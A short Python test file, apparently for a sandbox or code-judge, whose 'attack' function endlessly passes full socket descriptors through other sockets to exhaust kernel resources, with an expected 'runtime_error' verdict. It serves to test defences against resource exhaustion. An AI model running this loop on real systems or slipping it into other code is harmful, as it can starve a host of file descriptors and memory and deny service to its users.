"""Sends full sockets through sockets and closes them: only what is on its way holds them."""
#: verdict = "runtime_error"
#: says = "OSError"
#: cpu = 2
import os
import socket

def attack(number):
    while True:
        ours, theirs = socket.socketpair()
        ours.setblocking(False)
        try:
            while True:
                ours.send(bytes(1 << 16))
        except BlockingIOError:
            pass
        carrier, other = socket.socketpair()
        socket.send_fds(carrier, [b"x"], [theirs.fileno(), other.fileno()])
        ours.close(), theirs.close(), other.close()
        carrier.detach()
